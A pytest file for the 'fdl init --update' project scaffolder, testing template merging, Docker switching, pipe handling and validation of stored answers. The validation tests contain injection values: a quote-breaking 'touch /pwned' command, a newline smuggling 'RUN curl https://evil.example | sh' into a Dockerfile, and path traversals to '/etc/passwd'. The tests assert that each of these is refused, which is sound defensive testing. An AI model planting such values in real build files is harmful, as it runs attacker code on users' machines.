"""``fdl init --update``: newer templates come in, your edits stay."""

from __future__ import annotations

from pathlib import Path

import pytest

from fdl.scaffold import answers as answers_file
from fdl.scaffold import update
from fdl.scaffold.create import create
from fdl.scaffold.render import Answers


def templates(root: Path, files: dict[str, str]) -> Path:
    for name, text in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text)
    return root


def test_every_status(tmp_path):
    v1 = templates(
        tmp_path / "v1",
        {"same.txt": "same\n", "untouched.txt": "old\n", "edited.txt": "base\n",
         "both.txt": "base\n", "deleted.txt": "x\n"},
    )  # fmt: skip
    v2 = templates(
        tmp_path / "v2",
        {"same.txt": "same\n", "untouched.txt": "new\n", "edited.txt": "base\n",
         "both.txt": "template change\n", "deleted.txt": "x2\n", "added.txt.jinja": "{{ name }}\n"},
    )  # fmt: skip
    answers = Answers("proj", "proj")
    root = tmp_path / "proj"
    create(root, answers, v1)
    (root / "edited.txt").write_text("my edit\n")
    (root / "both.txt").write_text("my edit\n")
    (root / "deleted.txt").unlink()
    _, _, recorded = answers_file.load(root)

    changes = update.plan(root, answers, recorded, v2)
    assert {c.path: c.status for c in changes} == {
        "same.txt": "unchanged",
        "untouched.txt": "update",
        "edited.txt": "kept",
        "both.txt": "conflict",
        "deleted.txt": "skipped",
        "added.txt": "create",
    }
    diff = next(c for c in changes if c.path == "untouched.txt").diff()
    assert "-old\n+new\n" in diff and diff.startswith("--- a/untouched.txt")

    update.apply(root, answers, changes)
    assert (root / "untouched.txt").read_text() == "new\n"
    assert (root / "added.txt").read_text() == "proj\n"
    assert (root / "edited.txt").read_text() == "my edit\n"
    assert (root / "both.txt").read_text() == "my edit\n"  # yours is never overwritten
    assert (root / "both.txt.fdl-new").read_text() == "template change\n"
    assert not (root / "deleted.txt").exists()

    # A second update with the same templates has nothing left to do but the conflict's
    # resolution, which is now yours: the template's version is the new base.
    _, _, recorded = answers_file.load(root)
    again = {c.path: c.status for c in update.plan(root, answers, recorded, v2)}
    assert again["both.txt"] == "kept" and again["untouched.txt"] == "unchanged"


def test_cli_update_switches_a_project_to_docker(run_fdl, tmp_path):
    assert run_fdl("init", "net", cwd=tmp_path).returncode == 0
    root = tmp_path / "net"
    (root / "src/net/model.py").write_text("# my own model\n")
    fresh = run_fdl("init", "--update", cwd=root)
    assert fresh.returncode == 0, fresh.stderr
    assert "kept      src/net/model.py  (your edits" in fresh.stderr
    assert "nothing to update" in fresh.stderr

    dry = run_fdl("init", "--update", "--docker", "--dry-run", cwd=root / "src")
    assert dry.returncode == 0, dry.stderr
    assert "+++ b/docker-compose.yml" in dry.stdout and "+    docker: dev" in dry.stdout
    assert "Dry run: nothing written." in dry.stderr
    assert not (root / "docker-compose.yml").exists()

    applied = run_fdl("init", "--update", "--docker", cwd=root)
    assert applied.returncode == 0, applied.stderr
    assert "create    docker-compose.yml" in applied.stderr
    assert "update    fdl.yml.example" in applied.stderr
    assert (root / "docker-compose.yml").is_file()
    assert (root / "src/net/model.py").read_text() == "# my own model\n"
    assert 'mode = "docker"' in (root / ".fdl/project.toml").read_text()


def test_update_outside_a_project(run_fdl, tmp_path):
    result = run_fdl("init", "--update", cwd=tmp_path)
    assert result.returncode == 3
    assert "no .fdl/project.toml found" in result.stderr


def test_switching_to_native_removes_the_docker_files_you_never_edited(run_fdl, tmp_path):
    assert run_fdl("init", "box", "--docker", "--cuda", "12.6", cwd=tmp_path).returncode == 0
    root = tmp_path / "box"
    (root / "Dockerfile.cuda").write_text("# my GPU image\n")
    result = run_fdl("init", "--update", "--native", cwd=root)
    assert result.returncode == 0, result.stderr
    for name in ("Dockerfile", "docker-compose.yml", ".dockerignore"):
        assert f"removed   {name}\n" in result.stderr
        assert not (root / name).exists()
    assert "dropped   Dockerfile.cuda  (your edits, kept; no longer generated" in result.stderr
    assert (root / "Dockerfile.cuda").read_text() == "# my GPU image\n"
    _, _, recorded = answers_file.load(root)
    assert not [path for path in recorded if "ocker" in path]  # none tracked any more


def test_a_closed_pipe_does_not_stop_the_update(run_fdl, tmp_path):
    import os
    import subprocess
    import sys

    from tests.conftest import clean_env

    assert run_fdl("init", "piped", cwd=tmp_path).returncode == 0
    root = tmp_path / "piped"
    # an unedited file the template changed: the update prints its diff, then writes it
    readme = root / "README.md"
    readme.write_text("old\n" * 5000)  # a diff larger than any pipe buffer
    text = (root / ".fdl/project.toml").read_text()
    recorded = answers_file.load(root)[2]["README.md"]
    (root / ".fdl/project.toml").write_text(
        text.replace(recorded, answers_file.digest(readme.read_bytes()))
    )

    def closed_pipe_run(*args: str, cwd: Path, stderr: int | None) -> subprocess.CompletedProcess:
        # `fdl init ... | head -0`: a reader that is gone before fdl writes a byte
        read, write = os.pipe()
        os.close(read)
        try:
            return subprocess.run(
                [sys.executable, "-m", "fdl", *args], cwd=cwd, env=clean_env(), stdout=write,
                stderr=stderr if stderr is not None else write, timeout=120, check=False,
            )  # fmt: skip
        finally:
            os.close(write)

    result = closed_pipe_run("init", "--update", cwd=root, stderr=subprocess.PIPE)
    assert result.returncode == 1  # as fdl exits on any closed pipe: quietly
    assert b"Traceback" not in result.stderr and b"error" not in result.stderr
    assert readme.read_text().startswith("# piped")  # written all the same
    assert answers_file.load(root)[2]["README.md"] == answers_file.digest(readme.read_bytes())

    # `fdl init NAME 2>&1 | head -2`: both streams closed
    made = closed_pipe_run("init", "again", "--with-hf", cwd=tmp_path, stderr=None)
    assert made.returncode == 1
    assert (tmp_path / "again" / ".fdl" / "project.toml").is_file()
    assert (tmp_path / "again" / "examples" / "hf_classify.py").is_file()


@pytest.mark.parametrize(
    ("line", "replacement", "message"),
    [
        ('package = "bad"', 'package = "../../evil"', "package = '../../evil' is not valid"),
        ('mode = "native"', 'mode = "podman"', "mode = 'podman' must be 'native' or 'docker'"),
        ('name = "bad"', "name = 5", "[answers] name must be a string, not 5"),
        ('cuda = ""', 'cuda = "../x"', "cuda = '../x' must be a CUDA build"),
        ('flodl_wheel = ""', 'flodl_wheel = "../x.whl"', "flodl_wheel = '../x.whl' must be"),
        ('"README.md" =', '".fdl/wheels/../../../x" =', "is not a path inside the project"),
        ('"README.md" =', '"/etc/passwd" =', "is not a path inside the project"),
        # rendered into a Dockerfile RUN line, a Dockerfile.cuda comment, docker-compose.yml,
        # constraints.txt: a hand-edited value must not add a command, an instruction, a line
        (
            'torch = ""',
            """torch = '2.11.0"; touch /pwned; echo "'""",
            "torch = '2.11.0\"; touch /pwned; echo \"' must be a torch release",
        ),
        ('torch = ""', 'torch = "2.11.0\\n"', "torch = '2.11.0\\n' must be one line"),
        (
            'cuda_reason = ""',
            'cuda_reason = "x\\nRUN curl https://evil.example | sh"',
            "cuda_reason = 'x\\nRUN curl https://evil.example | sh' must be one line",
        ),
        ('torch_reason = ""', 'torch_reason = "a\\rb"', "torch_reason = 'a\\rb' must be one"),
        ('flodl_origin = ""', 'flodl_origin = "a\\u2028b"', "flodl_origin = 'a\\u2028b' must"),
        (
            'torch_pin = ""',
            'torch_pin = "torch==2.13.0 --pre"',
            "torch_pin = 'torch==2.13.0 --pre'",
        ),
        ('torch_index = ""', 'torch_index = "https://x y"', "torch_index = 'https://x y' must"),
        ('name = "bad"', 'name = "bad\\n"', "name = 'bad\\n' must be one line"),
        ('package = "bad"', 'package = "b-ad"', "package = 'b-ad' is not valid"),
    ],
)
def test_answers_fdl_could_not_have_written_are_refused(tmp_path, line, replacement, message):
    from fdl.errors import FdlError

    root = tmp_path / "bad"
    create(root, Answers("bad", "bad"))
    path = root / answers_file.ANSWERS_PATH
    text = path.read_text()
    assert line in text
    path.write_text(text.replace(line, replacement, 1))
    with pytest.raises(FdlError) as info:
        answers_file.load(root)
    assert str(path) in info.value.what and message in info.value.what


def test_update_with_a_package_outside_the_project_writes_nothing(run_fdl, tmp_path):
    assert run_fdl("init", "safe", cwd=tmp_path).returncode == 0
    root = tmp_path / "safe"
    path = root / answers_file.ANSWERS_PATH
    path.write_text(path.read_text().replace('package = "safe"', 'package = "../../evil"'))
    before = set(tmp_path.parent.rglob("*"))
    result = run_fdl("init", "--update", cwd=root)
    assert result.returncode == 1
    assert ".fdl/project.toml: [answers] package = '../../evil' is not valid" in result.stderr
    assert set(tmp_path.parent.rglob("*")) == before


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("torch", """'2.11.0"; touch /pwned; echo "'"""),
        ("cuda_reason", '"x\\nRUN curl https://evil.example | sh"'),
    ],
)
def test_update_refuses_an_injected_answer_and_writes_nothing(run_fdl, tmp_path, key, value):
    made = run_fdl("init", "boxed", "--docker", "--cuda", "12.6", cwd=tmp_path)
    assert made.returncode == 0, made.stderr
    root = tmp_path / "boxed"
    path = root / answers_file.ANSWERS_PATH
    lines = path.read_text().splitlines(keepends=True)
    (at,) = [i for i, line in enumerate(lines) if line.startswith(f"{key} = ")]
    lines[at] = f"{key} = {value}\n"
    path.write_text("".join(lines))
    before = {p: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file()}
    result = run_fdl("init", "--update", cwd=root)
    assert result.returncode == 1, result.stdout + result.stderr
    assert f".fdl/project.toml: [answers] {key} = " in result.stderr
    assert {p: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file()} == before
    assert not Path("/pwned").exists()


@pytest.mark.parametrize(("name", "package"), [("aux", "aux"), ("my-model-", "my_model_")])
def test_projects_named_before_newer_naming_rules_still_update(tmp_path, name, package):
    # `fdl init` now refuses Windows device names and a trailing '-' (and names over 64
    # characters); a project an earlier fdl made with one must still update
    root = tmp_path / name
    create(root, Answers(name, package, torch_pin="torch==2.13.0+cpu"))
    answers, _, recorded = answers_file.load(root)
    assert (answers.name, answers.package) == (name, package)
    changes = update.plan(root, answers, recorded)
    assert {c.status for c in changes} == {"unchanged"}


def test_cli_update_of_a_project_named_aux(run_fdl, tmp_path):
    root = tmp_path / "aux"
    create(root, Answers("aux", "aux"))
    result = run_fdl("init", "--update", cwd=root)
    assert result.returncode == 0, result.stderr


def test_a_bundled_wheel_to_create_is_one_line_not_an_empty_diff(run_fdl, tmp_path):
    assert run_fdl("init", "wheeled", "--native", cwd=tmp_path).returncode == 0
    root = tmp_path / "wheeled"
    wheels = list((root / ".fdl" / "wheels").glob("*.whl"))
    if not wheels:
        pytest.skip("flodl comes from a package index here: no wheel is bundled")
    (wheel,) = wheels
    wheel.unlink()
    result = run_fdl("init", "--update", "--dry-run", cwd=root)
    assert result.returncode == 0, result.stderr
    assert f"create    .fdl/wheels/{wheel.name}" in result.stderr
    (line,) = result.stdout.splitlines()  # one line, no empty diff
    assert line.startswith(f"Binary file b/.fdl/wheels/{wheel.name} (create, ") and line.endswith(
        " bytes)"
    )
